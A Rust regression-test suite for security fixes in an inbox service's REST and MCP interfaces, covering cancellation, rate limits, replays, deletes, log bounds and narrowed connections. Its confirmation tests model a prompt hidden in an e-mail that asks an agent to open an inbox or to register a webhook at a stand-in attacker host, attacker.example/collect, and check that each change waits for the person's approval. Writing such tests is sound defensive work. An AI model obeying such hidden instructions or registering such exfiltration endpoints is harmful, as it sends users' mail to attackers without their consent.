//! Regression tests of the second security review, one or more per finding:
//! a task cancel that could lie, changes an injected prompt could make
//! without the person's confirmation, a rate budget keyed on a request
//! header, replays that skipped a handler's own check, worker writes that
//! could undo a delete, unbounded pre-authentication log fields, and jobs on
//! a connection narrowed to them.

use std::sync::{Arc, Mutex};

use crate::common::proxy::{Interposer, Rule, RuleFn, throttled};
use crate::common::{self, ADMIN_SCOPES, Harness, Req, Resp, envelope_with, rest, send};
use crate::jobs_and_webhooks::{Receiver, ingest, ingested, mail, reprocess, run_job, ws_main};
use inbox::domain::records::{JobErrorKind, JobStatus};
use inbox::worker::Ran;
use serde_json::{Value, json};

const EXT: &str = "io.modelcontextprotocol/tasks";

fn task_req<'a>(h: &'a Harness, id: i64, method: &str, task_id: &str) -> Req<'a> {
    let caps = json!({"elicitation": {"form": {}}, "extensions": {EXT: {}}});
    h.stateless_with(json!(id), method, json!({"taskId": task_id}), envelope_with(caps))
}

async fn job_status(h: &Harness, id: &str) -> String {
    let (status, body) = rest(h, "GET", &format!("/jobs/{id}")).await;
    assert_eq!(status, 200, "{body}");
    body["data"]["status"].as_str().unwrap_or_else(|| panic!("{body}")).to_owned()
}

async fn email_status(h: &Harness, id: &str) -> String {
    let (status, body) = rest(h, "GET", &format!("/emails/{id}")).await;
    assert_eq!(status, 200, "{body}");
    body["data"]["status"].as_str().unwrap_or_else(|| panic!("{body}")).to_owned()
}

/// An e-mail ingested into `inb_receipts` (anyone may send): its id and job.
async fn ingested_email(h: &Harness) -> (String, String) {
    let (email, status, job) = ingested(&send(ingest(h, "inb_receipts", &mail("contas@energia.example.com"))).await);
    assert_eq!(status, "received");
    (email, job)
}

// ---------------------------------------------------------------- 1. cancel

#[tokio::test]
async fn tasks_cancel_of_a_queued_reprocess_takes_effect_after_the_worker_moved_its_email_on() {
    let h = Harness::new();
    let receiver = Receiver::start().await;
    let hook = send(h.api("PUT", "/webhooks").json(&json!({"url": receiver.url()}))).await;
    assert_eq!(hook.status, 201, "{}", hook.json());
    let (email, first) = ingested_email(&h).await;
    let second = reprocess(&h, &email).await;
    assert_eq!(email_status(&h, &email).await, "processing");
    // The worker runs the ingestion's job between the reprocess and the cancel.
    assert_eq!(run_job(&h, &first).await, Ran::Finished(JobStatus::Succeeded));
    let processed = email_status(&h, &email).await;
    assert_eq!(processed, "processed");
    assert_eq!(receiver.hits().len(), 1, "the first job's event");

    let resp = send(task_req(&h, 1, "tasks/cancel", &second)).await;
    resp.assert_stateless_ok(json!(1));
    assert_eq!(job_status(&h, &second).await, "cancelled", "acknowledged means cancelled");
    assert_eq!(run_job(&h, &second).await, Ran::Skipped, "a cancelled job never runs");
    assert_eq!(receiver.hits().len(), 1, "no second event went out");
    assert_eq!(email_status(&h, &email).await, processed, "the e-mail keeps what the first job made of it");
    let resp = send(task_req(&h, 2, "tasks/get", &second)).await;
    assert_eq!(resp.assert_stateless_ok(json!(2))["status"], "cancelled");
}

#[tokio::test]
async fn rest_cancel_of_a_queued_reprocess_is_never_vetoed_by_its_email() {
    let h = Harness::new();
    let (email, first) = ingested_email(&h).await;
    let second = reprocess(&h, &email).await;
    assert_eq!(run_job(&h, &first).await, Ran::Finished(JobStatus::Succeeded));
    let (status, body) = rest(&h, "POST", &format!("/jobs/{second}/cancel")).await;
    assert_eq!((status, body["data"]["status"].as_str()), (200, Some("cancelled")), "{body}");
    assert_eq!(run_job(&h, &second).await, Ran::Skipped);
    assert_eq!(email_status(&h, &email).await, "processed");
    // A cancelled reprocess that still held its e-mail puts the old status back.
    let third = reprocess(&h, &email).await;
    let (status, body) = rest(&h, "POST", &format!("/jobs/{third}/cancel")).await;
    assert_eq!((status, body["data"]["status"].as_str()), (200, Some("cancelled")), "{body}");
    assert_eq!(email_status(&h, &email).await, "processed", "restored");
}

#[tokio::test]
async fn tasks_cancel_of_a_running_task_is_invalid_params_and_the_job_runs_on() {
    let h = Harness::new();
    let app = h.app().await;
    let job = reprocess(&h, "eml_energy_nov").await;
    let leased = app.store.lease_job(&ws_main(), &job, 60).await.unwrap();
    assert!(leased.is_some(), "leased by a runner");
    let resp = send(task_req(&h, 1, "tasks/cancel", &job)).await;
    resp.assert_error(200, -32602, json!(1));
    let error = &resp.json()["error"];
    assert_eq!(error["data"], json!({"taskId": job, "status": "working"}), "{error}");
    assert!(error["message"].as_str().unwrap().contains("running"), "{error}");
    assert_eq!(job_status(&h, &job).await, "running");
}

// ------------------------------------------------------- 2. confirmations

/// The three changes a prompt hidden in an e-mail could ask for.
fn risky_calls() -> [(&'static str, Value, &'static str); 4] {
    [
        ("inboxes_update", json!({"id": "inb_bills", "sender_policy": "anyone"}), "sender_policy \"anyone\""),
        ("inboxes_upsert", json!({"slug": "bills", "name": "Contas", "sender_policy": "anyone"}), "sender_policy"),
        ("webhooks_upsert", json!({"url": "https://attacker.example/collect"}), "https://attacker.example/collect"),
        ("webhooks_upsert", json!({"url": "https://hooks.example.com/kobana", "status": "disabled"}), "disabled"),
    ]
}

/// What the person sees of the workspace.
async fn workspace_state(h: &Harness) -> (Value, Value) {
    let (_, inbox) = rest(h, "GET", "/inboxes/inb_bills").await;
    let (_, hooks) = rest(h, "GET", "/webhooks").await;
    (inbox, hooks)
}

#[tokio::test]
async fn opening_an_inbox_or_registering_or_disabling_a_webhook_asks_the_person_first() {
    let h = Harness::new();
    let before = workspace_state(&h).await;
    let caps = json!({"elicitation": {"form": {}}});
    for (i, (tool, args, shown)) in risky_calls().into_iter().enumerate() {
        let id = i64::try_from(i).unwrap() + 1;
        let params = json!({"name": tool, "arguments": args});
        let resp = send(h.stateless_with(json!(id), "tools/call", params, envelope_with(caps.clone()))).await;
        let result = resp.assert_stateless_result(json!(id), "input_required");
        let message =
            result["inputRequests"]["confirm"]["params"]["message"].as_str().unwrap_or_else(|| panic!("{result}"));
        assert!(message.contains(shown), "{tool}: the person sees what changes: {message}");
    }
    assert_eq!(workspace_state(&h).await, before, "nothing changed before a confirmation");
    // Without elicitation, nothing runs either.
    let params = json!({"name": "webhooks_upsert", "arguments": {"url": "https://attacker.example/collect"}});
    let resp = send(h.stateless_with(json!(9), "tools/call", params, envelope_with(json!({})))).await;
    resp.assert_error(400, -32021, json!(9));
    assert_eq!(workspace_state(&h).await, before);
}

#[tokio::test]
async fn the_same_changes_are_confirmation_required_in_the_2025_eras() {
    let h = Harness::new();
    let before = workspace_state(&h).await;
    let mut id = 0;
    for version in [Some("2025-06-18"), None] {
        for (tool, args, _) in risky_calls() {
            id += 1;
            let params = json!({"name": tool, "arguments": args});
            let resp = send(h.handshake(json!(id), "tools/call", params, version)).await;
            let result = resp.result();
            assert_eq!(result["isError"], true, "{tool} {version:?}: {result}");
            let text = result["content"][0]["text"].as_str().unwrap();
            assert!(text.contains("confirmation_required"), "{tool} {version:?}: {text}");
        }
    }
    assert_eq!(workspace_state(&h).await, before, "nothing was executed");
    // Renaming an inbox changes no one's access: it runs at once.
    let params = json!({"name": "inboxes_update", "arguments": {"id": "inb_bills", "name": "Contas"}});
    let result = send(h.handshake(json!(99), "tools/call", params, Some("2025-06-18"))).await.result();
    assert_eq!(result["isError"], false, "{result}");
}

#[tokio::test]
async fn tools_list_marks_the_three_tools_destructive() {
    let h = Harness::new();
    let resp = send(h.stateless(json!(1), "tools/list", json!({}))).await;
    let tools = resp.assert_stateless_ok(json!(1))["tools"].clone();
    for name in ["inboxes_update", "inboxes_upsert", "webhooks_upsert"] {
        let tool = tools.as_array().unwrap().iter().find(|t| t["name"] == name).unwrap_or_else(|| panic!("{name}"));
        assert_eq!(tool["annotations"]["destructiveHint"], true, "{tool}");
        assert!(tool["description"].as_str().unwrap().contains("confirm"), "{tool}");
        let shapes = tool["outputSchema"]["anyOf"].to_string();
        assert!(shapes.contains("not_confirmed"), "a declined confirmation is a documented answer: {tool}");
    }
}

// ------------------------------------------------------------ 3. rate limit

/// `count` REST writes (each waits for its count) as `sub`, each with the
/// workspace header `workspace(i)` (none when it gives `None`): how many
/// were over the budget.
async fn over_budget(h: &Harness, sub: &str, count: usize, workspace: impl Fn(usize) -> Option<String>) -> usize {
    let token = h.token_for(sub, "org_demo", ADMIN_SCOPES);
    let mut limited = 0;
    for i in 0..count {
        let mut req = h.api("POST", "/jobs/job_nope/cancel").token(&token).without("x-workspace-id");
        if let Some(ws) = workspace(i) {
            req = req.header("x-workspace-id", &ws);
        }
        let resp = send(req).await;
        // Not a member anywhere: 403 no_membership, until the budget runs out.
        assert!([400, 403, 404, 429].contains(&resp.status), "{}: {}", resp.status, resp.json());
        limited += usize::from(resp.status == 429);
    }
    limited
}

#[tokio::test]
async fn a_new_workspace_header_on_every_call_buys_no_budget_and_writes_one_counter() {
    const BUDGET: u32 = 25;
    let h = Harness::with_config(|c| c.rate_limit_per_minute = BUDGET);
    h.app().await;
    // Both runs must fall in one window (a minute): start early in one, and
    // run again, with new people, when a window boundary fell inside.
    let second = inbox::sys::unix_now() % 60;
    if second > 35 {
        tokio::time::sleep(std::time::Duration::from_secs(61 - second)).await;
    }
    let (mut made_up, mut without, mut people) = (0, 0, (String::new(), String::new()));
    for attempt in 0..3 {
        let window = inbox::sys::unix_now() / 60;
        people = (format!("usr_made_up_{attempt}"), format!("usr_without_{attempt}"));
        made_up = over_budget(&h, &people.0, 1000, |i| Some(format!("ws_made_up_{i}"))).await;
        without = over_budget(&h, &people.1, 1000, |_| None).await;
        if inbox::sys::unix_now() / 60 == window {
            break;
        }
    }
    assert_eq!(made_up, 1000 - BUDGET as usize, "made-up workspaces share one budget");
    assert_eq!(without, made_up, "the same budget as requests with no workspace");

    let client = common::dynamodb_client();
    let items = client
        .scan()
        .table_name(&h.table)
        .filter_expression("begins_with(pk, :rl)")
        .expression_attribute_values(":rl", aws_sdk_dynamodb::types::AttributeValue::S("T#org_demo#RL#".into()))
        .send()
        .await
        .unwrap()
        .items
        .unwrap_or_default();
    let pks: Vec<String> = items.iter().filter_map(|i| i.get("pk").and_then(|v| v.as_s().ok()).cloned()).collect();
    for person in [&people.0, &people.1] {
        let theirs = pks.iter().filter(|pk| pk.ends_with(&format!("#RL#{person}"))).count();
        assert_eq!(theirs, 1, "one counter item per person and minute: {pks:?}");
    }
}

#[tokio::test]
async fn one_workspace_is_one_budget_whether_or_not_it_is_named() {
    let h = Harness::with_config(|c| c.rate_limit_per_minute = 4);
    let token = h.token_for("usr_other", "org_other", ADMIN_SCOPES);
    let mut remaining = Vec::new();
    for named in [true, false, true] {
        let mut req = h.api("GET", "/inboxes").token(&token).without("x-workspace-id");
        if named {
            req = req.header("x-workspace-id", "ws_other");
        }
        let resp = send(req).await;
        assert_eq!(resp.status, 200, "{}", resp.json());
        remaining.push(resp.header("x-ratelimit-remaining").unwrap().to_owned());
    }
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let resp = send(h.api("POST", "/jobs/job_nope/cancel").token(&token).header("x-workspace-id", "ws_other")).await;
    assert_eq!(resp.header("x-ratelimit-remaining"), Some("0"), "the fourth request of one budget: {remaining:?}");
}

// ------------------------------------------------------------ 4. replays

#[tokio::test]
async fn a_replayed_job_cancel_is_authorized_like_a_new_one() {
    let h = Harness::new();
    let job = reprocess(&h, "eml_energy_nov").await;
    let operator = h.token_for("usr_operator", "org_demo", ADMIN_SCOPES);
    let cancel =
        |token: &str| h.api("POST", &format!("/jobs/{job}/cancel")).token(token).header("idempotency-key", "k1");
    let first = send(cancel(&operator)).await;
    assert_eq!(first.status, 200, "{}", first.json());

    let reader = h.token_for("usr_operator", "org_demo", "inboxes:read");
    let read = send(h.api("GET", &format!("/jobs/{job}")).token(&reader)).await;
    assert_eq!(read.status, 403, "{}", read.json());
    let replay = send(cancel(&reader)).await;
    assert_eq!(replay.status, 403, "the key lends nothing: {}", replay.json());
    assert_eq!(replay.json()["error"]["code"], "insufficient_scope");
    assert!(replay.json().get("data").is_none(), "no job in the answer: {}", replay.json());
    // The same person with the scope again gets the stored answer.
    let again = send(cancel(&operator)).await;
    assert_eq!((again.status, again.json()), (200, first.json()));
}

// ------------------------------------------------------ 5. platform errors

/// What a delete does to an e-mail item, written straight to the table.
async fn soft_delete(table: String, pk: String, sk: String) {
    use aws_sdk_dynamodb::types::AttributeValue::S;
    common::dynamodb_client()
        .update_item()
        .table_name(table)
        .key("pk", S(pk))
        .key("sk", S(sk))
        .update_expression("SET deleted_at = :at REMOVE gsi1pk, gsi1sk")
        .expression_attribute_values(":at", S("2026-12-04T12:00:00.000Z".into()))
        .send()
        .await
        .unwrap();
}

#[tokio::test]
async fn a_job_that_gives_up_tells_clients_one_sentence_and_keeps_the_storage_error_to_the_logs() {
    // Every read of one e-mail is throttled; everything else goes through.
    let rule: Arc<RuleFn> = Arc::new(|operation: &str, body: &Value| {
        if operation == "GetItem" && body["Key"]["sk"]["S"] == "EML#eml_energy_nov" {
            throttled()
        } else {
            Rule::Forward
        }
    });
    let proxy = Interposer::start(rule).await;
    let endpoint = proxy.endpoint.clone();
    let h = Harness::with_config(move |c| c.store.endpoint = Some(endpoint.clone()));
    h.app().await;
    let job = {
        // The reprocess itself reads the e-mail: enqueue the job directly.
        let app = h.app().await;
        let job = inbox::api::jobs::new_job(inbox::domain::records::JobKind::EmailReprocess, "eml_energy_nov");
        app.store.put_job(&ws_main(), &job).await.unwrap();
        job.id
    };
    assert_eq!(run_job(&h, &job).await, Ran::Finished(JobStatus::Failed));
    let (_, body) = rest(&h, "GET", &format!("/jobs/{job}")).await;
    let error = body["data"]["error"].as_str().unwrap_or_else(|| panic!("{body}"));
    assert_eq!(body["data"]["error_kind"], serde_json::to_value(JobErrorKind::Platform).unwrap());
    for internal in ["hrottl", "DynamoDB", "Provisioned", "dispatch", "service error"] {
        assert!(!error.contains(internal), "no storage detail reaches the client: {error}");
    }
    assert!(error.contains("could not complete this job"), "{error}");
    let task = send(task_req(&h, 1, "tasks/get", &job)).await.assert_stateless_ok(json!(1));
    assert_eq!(task["error"]["message"], error, "{task}");
}

// ----------------------------------------------------------- 6. undelete

#[tokio::test]
async fn a_delete_landing_while_the_worker_processes_an_email_is_never_undone() {
    // Armed once the demo data is written (seeding puts e-mails too).
    let armed = Arc::new(Mutex::new(false));
    let once = Arc::clone(&armed);
    // Just before the worker writes the processed e-mail back, the e-mail is deleted.
    let rule: Arc<RuleFn> = Arc::new(move |operation: &str, body: &Value| {
        let item = &body["Item"];
        if operation == "PutItem"
            && item["sk"]["S"] == "EML#eml_energy_nov"
            && std::mem::take(&mut *once.lock().unwrap())
        {
            let pk = item["pk"]["S"].as_str().unwrap_or("").to_owned();
            let table = body["TableName"].as_str().unwrap_or("").to_owned();
            return Rule::First(Box::pin(soft_delete(table, pk, "EML#eml_energy_nov".into())));
        }
        Rule::Forward
    });
    let proxy = Interposer::start(rule).await;
    let endpoint = proxy.endpoint.clone();
    let h = Harness::with_config(move |c| c.store.endpoint = Some(endpoint.clone()));
    let receiver = Receiver::start().await;
    let hook = send(h.api("PUT", "/webhooks").json(&json!({"url": receiver.url()}))).await;
    assert_eq!(hook.status, 201, "{}", hook.json());
    let job = reprocess(&h, "eml_energy_nov").await;
    *armed.lock().unwrap() = true;

    assert_eq!(run_job(&h, &job).await, Ran::Finished(JobStatus::Failed));
    assert!(!*armed.lock().unwrap(), "the delete landed inside the job");
    let (status, body) = rest(&h, "GET", "/emails/eml_energy_nov").await;
    assert_eq!(status, 404, "the deleted e-mail stays deleted: {body}");
    let (_, listed) = rest(&h, "GET", "/emails?limit=100").await;
    assert!(!listed.to_string().contains("eml_energy_nov"), "and out of every list: {listed}");
    let (_, job_body) = rest(&h, "GET", &format!("/jobs/{job}")).await;
    assert_eq!(job_body["data"]["error"], inbox::worker::effects::SUPERSEDED, "{job_body}");
    assert!(receiver.hits().is_empty(), "no event about an e-mail that is gone");
}

// --------------------------------------------------------------- 7. logs

#[tokio::test]
async fn an_unauthenticated_request_puts_a_bounded_method_label_in_the_log() {
    let h = Harness::new();
    let method = "x".repeat(200_000);
    let body = json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": {}});
    let logs = common::capture_logs(async {
        let resp = send(h.post().without("authorization").json(&body)).await;
        assert_eq!(resp.status, 401);
    })
    .await;
    assert!(logs.contains("unknown"), "the method's label: {logs:.400}");
    assert!(!logs.contains(&"x".repeat(300)), "the method itself is not logged");
    assert!(logs.len() < 4_000, "a bounded line, not the request: {} bytes", logs.len());
}

// ------------------------------------------------------- 8. narrowed jobs

async fn narrowed(h: &Harness, path: &str, id: i64, method: &str, params: Value) -> Resp {
    let caps = json!({"elicitation": {"form": {}}, "extensions": {EXT: {}}});
    send(h.stateless_with(json!(id), method, params, envelope_with(caps)).path(path)).await
}

#[tokio::test]
async fn a_connection_narrowed_to_jobs_reads_jobs_but_no_email_or_webhook() {
    let h = Harness::new();
    let job = reprocess(&h, "eml_energy_nov").await;
    let jobs = "/mcp/x/jobs";
    // The job: by tool and as a task.
    let resp = narrowed(&h, jobs, 1, "tools/call", json!({"name": "jobs_get", "arguments": {"id": job}})).await;
    let result = resp.assert_stateless_ok(json!(1));
    assert_eq!(result["isError"], false, "{result}");
    assert_eq!(result["structuredContent"]["data"]["id"], job.as_str());
    let resp = narrowed(&h, jobs, 2, "tasks/get", json!({"taskId": job})).await;
    assert_eq!(resp.assert_stateless_ok(json!(2))["status"], "working");
    // Not the e-mail it is about: not as a resource, not through completions or prompts.
    let resp = narrowed(&h, jobs, 3, "resources/read", json!({"uri": "kobana://inbox/emails/eml_energy_nov"})).await;
    assert!(resp.json().get("error").is_some(), "{}", resp.json());
    assert_ne!(resp.status, 403, "not found, never a step-up: {}", resp.json());
    let completion = json!({"ref": {"type": "ref/resource", "uri": "kobana://inbox/emails/{id}"}, "argument": {"name": "id", "value": "eml_"}});
    let resp = narrowed(&h, jobs, 4, "completion/complete", completion).await;
    let values = resp.json()["result"]["completion"]["values"].clone();
    assert!(values.as_array().is_none_or(Vec::is_empty), "no e-mail ids: {}", resp.json());
    let resp = narrowed(&h, jobs, 5, "prompts/list", json!({})).await;
    let prompts = resp.assert_stateless_ok(json!(5))["prompts"].clone();
    assert_eq!(prompts, json!([]), "no e-mail or webhook prompt: {prompts}");
    // Cancelling it works on the jobs connection (not read-only) ...
    let resp = narrowed(&h, jobs, 6, "tasks/cancel", json!({"taskId": job})).await;
    resp.assert_stateless_ok(json!(6));
    assert_eq!(job_status(&h, &job).await, "cancelled");
}

#[tokio::test]
async fn outside_the_narrowing_a_task_is_not_found_never_a_step_up() {
    let h = Harness::new();
    let job = reprocess(&h, "eml_energy_nov").await;
    // An e-mail job on a connection narrowed to webhooks.
    for (id, method) in [(1, "tasks/cancel"), (2, "tasks/get")] {
        let resp = narrowed(&h, "/mcp/x/webhooks", id, method, json!({"taskId": job})).await;
        resp.assert_error(200, -32602, json!(id));
        assert!(resp.header("www-authenticate").is_none(), "{method}: no challenge for a scope the token has");
    }
    let resp =
        narrowed(&h, "/mcp/x/webhooks,jobs", 3, "tools/call", json!({"name": "jobs_get", "arguments": {"id": job}}))
            .await;
    assert_eq!(resp.assert_stateless_ok(json!(3))["isError"], false, "with jobs, the job is there: {}", resp.json());
    // A read-only jobs connection reads the job but cannot cancel it.
    let resp = narrowed(&h, "/mcp/readonly", 4, "tasks/cancel", json!({"taskId": job})).await;
    resp.assert_error(200, -32602, json!(4));
    let resp = send(task_req(&h, 5, "tasks/get", &job).path("/mcp/x/jobs").header("x-mcp-readonly", "true")).await;
    assert_eq!(resp.assert_stateless_ok(json!(5))["status"], "working");
    assert_eq!(job_status(&h, &job).await, "queued");
}
